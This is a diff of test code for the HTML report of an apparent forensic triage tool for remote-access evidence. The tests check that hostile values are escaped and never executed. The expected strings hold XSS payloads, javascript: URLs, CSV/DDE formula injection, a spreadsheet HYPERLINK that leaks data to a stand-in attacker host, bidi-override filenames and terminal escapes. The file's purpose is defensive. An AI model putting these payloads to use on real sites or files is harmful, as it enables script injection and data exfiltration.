@@ -32,13 +32,13 @@ describe('HTML: hostile evidence is shown, never executed', () => {
     expect(svgs.filter((x) => x.startsWith('<svg class="chart"')).length).toBe(svgs.length - 1)
   })
   it('escapes each payload where it appears', () => {
-    const script = '&lt;script&gt;document.title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;'
+    const script = '&lt;script&gt;document[.]title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;'
     expect(page).toContain(`<h4><span class="role r-pts">adds points</span> PAY-01: Payment platform used by IT workers ${script}</h4>`)
     expect(page).toContain(`<span><b>title</b>=${script}</span>`)
     expect(page).toContain('<span><b>title</b>=&lt;img src=x onerror=alert(1)&gt;</span>')
     expect(page).toContain('<span><b>url</b>=javascript[:]alert(1)</span>')
     expect(page).toContain('<span><b>install_location</b>=&lt;/style&gt;&lt;style&gt;body{background:url(hxxp://127[.]0[.]0[.]1:9/css)}&lt;/style&gt;</span>')
-    expect(page).toContain('<span><b>note</b>=&lt;/textarea&gt;&lt;svg onload=&quot;document.title=&#39;PWNED&#39;&quot;&gt;</span>')
+    expect(page).toContain('<span><b>note</b>=&lt;/textarea&gt;&lt;svg onload=&quot;document[.]title=&#39;PWNED&#39;&quot;&gt;</span>')
     expect(page).toContain('Session closed &lt;/script&gt;&lt;script src=&quot;hxxp://127[.]0[.]0[.]1:9/js&quot;&gt;&lt;/script&gt; &lt;iframe src=&quot;hxxp://127[.]0[.]0[.]1:9/frame&quot;&gt;&lt;/iframe&gt;')
     expect(page).toContain('<span><b>remote_alias</b>==HYPERLINK(&quot;hxxp://evil[.]example/?leak=&quot;&amp;A1,&quot;click me&quot;)</span>')
     expect(page).toContain(`<span><b>file</b>=+cmd|&#39; /C calc&#39;!A0</span> <span><b>label</b>=@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</span> <span><b>size_note</b>=-2+3</span> <span><b>tab</b>=${cc('␉')}=1+1</span>`)
@@ -49,15 +49,15 @@ describe('HTML: hostile evidence is shown, never executed', () => {
   })
   it('makes newlines, pipes, bidi overrides, NUL and terminal escapes visible', () => {
     expect(page).toContain(`File transfer col|with|pipes${cc('␊')}and a second line${cc('␍')}${cc('␊')}and a third`)
-    expect(page).toContain(`to invoice${cc('⟨U+202E⟩')}gpj.exe`)
+    expect(page).toContain(`to invoice${cc('⟨U+202E⟩')}gpj[.]exe`)
     expect(page).toContain(`<span class="raw">transfer ${cc('␛')}[31mRED${cc('␛')}[0m${cc('␛')}]0;owned${cc('␇')} nul${cc('␀')}byte</span>`)
-    expect(page).toContain(`<li>archive member name not UTF-8: nul${cc('␀')}byte invoice${cc('⟨U+202E⟩')}gpj.exe</li>`)
+    expect(page).toContain(`<li>archive member name not UTF-8: nul${cc('␀')}byte invoice${cc('⟨U+202E⟩')}gpj[.]exe</li>`)
     // nothing invisible or reordering is left in the bytes
     // eslint-disable-next-line no-control-regex
     expect(page.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/)
   })
   it('cuts 40,000-character values for display with a marker', () => {
-    expect(page).toContain('<td>ad.roster.entry=' + 'A'.repeat(1984) + '… [cut: 38,017 more characters; full value in the JSON/JSONL/CSV export]<span class="flds">')
+    expect(page).toContain('<td>ad[.]roster[.]entry=' + 'A'.repeat(1984) + '… [cut: 38,017 more characters; full value in the JSON/JSONL/CSV export]<span class="flds">')
     expect(page).toContain('<span><b>value</b>=' + 'A'.repeat(400) + '… [cut: 39,601 more characters; full value in the JSON/JSONL/CSV export]</span>')
     expect(page).toContain('<span class="raw">' + 'A'.repeat(400) + '… [cut: 39,601 more characters; full value in the JSON/JSONL/CSV export]</span>')
     expect(page).not.toContain('END-OF-LONG')
@@ -175,16 +175,16 @@ describe('HTML: content', () => {
   })
   it('lists artifacts with kind, SHA-256, status and warnings', () => {
     expect(page).toContain(`<td class="mono">chromium.history</td><td>163,840</td><td class="mono brk">${'b'.repeat(64)}</td><td><span class="sev s-medium">partial</span></td><td>4</td><td><ul class="small"><li>row 44: unreadable url &lt;script&gt;`)
-    expect(page).toContain('<tr><td>RA-02</td><td>TeamViewer</td><td>2</td><td>IT helpdesk &lt;img src=x onerror=alert(1)&gt;</td><td>allow.yaml:3</td></tr>')
+    expect(page).toContain('<tr><td>RA-02</td><td>TeamViewer</td><td>2</td><td>IT helpdesk &lt;img src=x onerror=alert(1)&gt;</td><td>allow[.]yaml:3</td></tr>')
   })
   it('method: version, command line, pack, parsers found and not found, time conventions', () => {
     expect(page).toContain('<p>Made by dprk-triage 0.1.0.</p>')
-    expect(page).toContain('<p>Command line: <code class="brk">dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New_York --out &quot;&lt;script&gt;document.title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;.html&quot;</code></p>')
+    expect(page).toContain('<p>Command line: <code class="brk">dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New_York --out &quot;&lt;script&gt;document[.]title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;.html&quot;</code></p>')
     expect(page).toContain('<p>Indicator pack <b>dprk-itw</b> version <b>2024.06</b>, 42 indicators; loaded: <span class="mono brk">builtin:dprk-itw.yaml</span>.</p>')
     expect(page).toContain('<tr><td class="mono">anydesk.trace</td><td>AnyDesk trace log</td><td>found: 1 artifact (1 parsed), 4 events</td></tr>')
     expect(page).toContain('<tr><td class="mono">anydesk.conf</td><td>AnyDesk configuration</td><td>found: 1 artifact (1 failed), 0 events</td></tr>')
-    expect(page).toContain('<tr><td class="mono">firefox.places</td><td>Firefox places.sqlite</td><td><span class="mut">not found in the evidence</span></td></tr>')
-    expect(page).toContain('<tr><td class="mono">teamviewer.connections_incoming</td><td>TeamViewer Connections_incoming.txt</td><td><span class="mut">not found in the evidence</span></td></tr>')
+    expect(page).toContain('<tr><td class="mono">firefox.places</td><td>Firefox places[.]sqlite</td><td><span class="mut">not found in the evidence</span></td></tr>')
+    expect(page).toContain('<tr><td class="mono">teamviewer.connections_incoming</td><td>TeamViewer Connections_incoming[.]txt</td><td><span class="mut">not found in the evidence</span></td></tr>')
     expect(page).toContain('<p>2 artifacts could not be read completely')
     expect(page).toContain('<p>This page shows 9 of 10 events;')
     expect(page).toContain('All times are UTC, ISO 8601 with <code>Z</code>.')
